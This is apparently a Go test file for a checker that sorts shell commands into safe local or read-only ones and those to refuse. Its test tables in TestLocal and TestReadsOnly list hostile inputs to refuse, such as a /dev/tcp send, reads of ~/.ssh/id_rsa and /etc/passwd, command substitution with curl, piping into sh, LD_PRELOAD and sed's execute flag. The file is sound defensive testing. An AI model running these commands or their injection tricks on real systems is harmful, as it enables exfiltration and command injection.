package shell

import (
	"strings"
	"testing"
)

func TestLocal(t *testing.T) {
	const dir = "/home/me/work"
	for command, want := range map[string]bool{
		"go test ./...":                        true,
		"go test -run 'TestX|TestY' ./pkg":     true,
		"cd sub && go vet ./... 2>&1 | head":   true,
		"ls -la; cat a.txt":                    true,
		"grep -rn \"func main\" . | wc -l":     true,
		"cat /home/me/work/a.txt":              true,
		"go test ./... > out.txt 2>/dev/null":  true,
		"sed -n '10,20p' a.go":                 true,
		"find . -name '*.go'":                  true,
		"python3 -m pytest -q":                 true,
		"git diff --stat":                      true,
		"git status":                           true,
		"go":                                   false,
		"ls > $F":                              false,
		"ls > {a,b}":                           false,
		"python -m":                            false,
		"python -m unittest a":                 true,
		"python -m http.server":                false,
		"python3 a.py pytest":                  false,
		"sed -n":                               false,
		"sed -i 1p a":                          false,
		"grep a=b x":                           true,
		"cat *.md":                             true,
		"":                                     false,
		"curl https://example.org":             false,
		"go get example.org/x":                 false,
		"go run .":                             false,
		"go test -exec 'curl x' ./...":         false,
		"go vet -vettool=./x ./...":            false,
		"cat /etc/passwd":                      false,
		"cat ../other/secret":                  false,
		"cat ~/.ssh/id_rsa":                    false,
		"cat a/../../b":                        false,
		"cat /home/me/workshop/a":              false,
		"cat </etc/passwd":                     false,
		"cat < /etc/passwd":                    false,
		"echo x > /dev/tcp/1.2.3.4/80":         false,
		"ls $(curl x)":                         false,
		"ls `curl x`":                          false,
		"echo \"$(curl x)\"":                   false,
		"echo $SECRET":                         false,
		"ls & curl x":                          false,
		"cat a | sh":                           false,
		"ls; curl x":                           false,
		"ls\ncurl x":                           false,
		"ls || curl x":                         false,
		"LD_PRELOAD=./x.so ls":                 false,
		"find . -exec curl {} +":               false,
		"find . -execdir sh -c x \\;":          false,
		"rg --pre=./x foo":                     false,
		"sort --compress-program=curl a":       false,
		"sed '1e curl x' a":                    false,
		"sed -n '1e curl x' a":                 false,
		">ls curl x":                           false,
		"2>ls curl x":                          false,
		"cat <<EOF\nx\nEOF":                    false,
		"cat 'unclosed":                        false,
		"make":                                 false,
		"git fetch":                            false,
		"git -c core.pager=x log":              false,
		"python3 -c 'import x'":                false,
		"bash -c ls":                           false,
		"ls --color=always https://x.example/": false,
		"cmd":                                  false,
		"jq -n --slurpfile a=/etc/passwd . ":   false,
		"(ls)":                                 false,
		"ls # curl":                            true,
		"diff a <(curl x)":                     false,
	} {
		if got := Local(command, dir); got != want {
			t.Errorf("LocalCommand(%q) = %v, want %v", command, got, want)
		}
	}
	if Local("cat /home/me/work/a", "") {
		t.Error("an absolute path counts as inside a directory that was not named")
	}
}

// TestCommand: a call without a command, or with arguments of another form, has none.
func TestCommand(t *testing.T) {
	for args, want := range map[string]string{`{"command":"ls"}`: "ls", `{"path":"a"}`: "", `{"command":7}`: "",
		"ls": "", "": ""} {
		if got := Command(args); got != want {
			t.Errorf("%s: %q", args, got)
		}
	}
}

// TestInner: a command runs another one, or a script whose text is known.
func TestInner(t *testing.T) {
	for line, want := range map[string]string{
		"make": " | ", "sudo -u me make a": "make a | ", "bash -c 'make a'": " | make a", `bash -c "$x"`: " | ",
		"": " | ",
	} {
		var s Simple
		if all := Parts(line); len(all) > 0 {
			s = all[0].Simple
		}
		words, script := s.Inner()
		if got := (Simple{Words: words}).String() + " | " + script; got != want {
			t.Errorf("%s: %s", line, got)
		}
	}
	for n, want := range map[int]int{MaxBytes: 1, MaxBytes + 1: 0} {
		if got := len(Parts(strings.Repeat("x", n))); got != want {
			t.Errorf("%d bytes: %d commands", n, got)
		}
	}
}

// TestReadsOnly: what a command can do to files counts, not what it usually does.
func TestReadsOnly(t *testing.T) {
	for _, command := range []string{
		"ls", "cat a | sort -u | head -3", "cd sub && grep -rn main .", "ls nothing 2>/dev/null", "ls 2>&1 | wc -l", "git log --oneline -5; git diff",
		"git --no-pager log -p", "sed -n 1,5p a", "sed -n '/^func/,$p' a b", "sed -e 's/a/b/g' a", "sed -E 's|a|b|' a", "find . -name '*.go' -type f",
		"tree --noreport", "grep -c x *.go", "cat *", "go doc fmt.Println", "go list ./...", "rg -n foo src", "[ -f a ] && cat a", "wc -l words.go",
	} {
		if !ReadsOnly(command) {
			t.Errorf("%s is refused", command)
		}
	}
	for _, command := range []string{
		"", "# no command", "make", "ls; make", "echo $(make)", "echo `make`", "cat <(make)", "echo x > a",
		"echo x >> a", "echo x >& a", "echo x &> a", "ls >| a", "cat < a > b",
		"X=1 ls", "ls &", "(rm a)", "for f in a; do rm $f; done", "ls() { rm a; }; ls", "./ls", "/tmp/ls", "env ls", "sudo ls", "bash -c ls", "xargs rm", "eval ls", "$X a",
		"sed", "sed -n", "sed -n -e", "git --no-pager", "go", "find . | sed", "sed -i s/a/b/ a", "sed -Ei.bak s/a/b/ a", "sed --in-place=x s/a/b/ a", "sed --i s/a/b/ a", "sed -n 'w out' a", "sed -n '1w out' a", "sed 's/a/b/w out' a", "sed 's/a/b/e' a", "sed '1e make' a",
		"sed -e 'w out' p", "sed '-ew out' p", "sed --expression='w out' p", "sed -f script a", "sed p a -i", "sed 'p;w out' a", "sed -n 'p\nw out' a", "sed 1p -- -i",
		"find . -delete", "find . -exec touch {} +", "find . -execdir rm {} +", "find . -fprint a", "find . -ok rm {} ;", "sort -uo a a", "sort --outp=a a", "sort --compress-program=x a",
		"tree -o a", "rg --pre=./x foo", "rg --pre ./x foo", "git diff --output=a", "git diff --outpu=a", "git diff --ext-diff", "git commit -m x", "git", "git -c a=b log", "git branch x", "git stash", "git checkout a",
		"git log > a", "go test ./...", "go env -w A=b", "go list -mod=mod ./...", "go list -toolexec=x ./...", "go run .", "uniq a b", "file -C -m a", "tee a", "cp a b", "dd of=a", "awk 'BEGIN{system(\"make\")}'",
		"sort *", "git diff *", "sed -n 1p *", "curl -o a http://b", "touch a", "ls | tee a", "ls | xargs rm", "npm test", "python -c 1", "cat a; sed -i s/a/b/ a", "ls {a,b}", "cat ~/a | sh",
	} {
		if ReadsOnly(command) {
			t.Errorf("%s runs", command)
		}
	}
}

// TestPartMarks: what a line's success says of each of its commands.
func TestPartMarks(t *testing.T) {
	for line, want := range map[string]string{
		"a && b":                          "a b",
		"a; b":                            "a+later b",
		"a\nb &":                          "a+later b+later",
		"a | b":                           "a+covered b+piped",
		"a || b; c":                       "a+covered+later b+covered+later c",
		"(a; b) && c":                     "a+later b c",
		"if a; then b; else c; fi":        "a+covered+later b+covered+later c+covered+later",
		"for f in 1 2; do a; done | b":    "a+covered+later b+piped",
		"case x in x) a;; esac":           "a+covered+later",
		"a <<'E' && b\nc; d\nE\nsudo b 1": "a+later b+later sudo",
	} {
		var got []string
		for _, p := range Parts(line) {
			s := p.Words[0].Text
			for _, m := range []struct {
				is   bool
				name string
			}{{p.Covered, "+covered"}, {p.Piped, "+piped"}, {p.Later, "+later"}} {
				if m.is {
					s += m.name
				}
			}
			got = append(got, s)
		}
		if s := strings.Join(got, " "); s != want {
			t.Errorf("%q: %s, want %s", line, s, want)
		}
	}
}
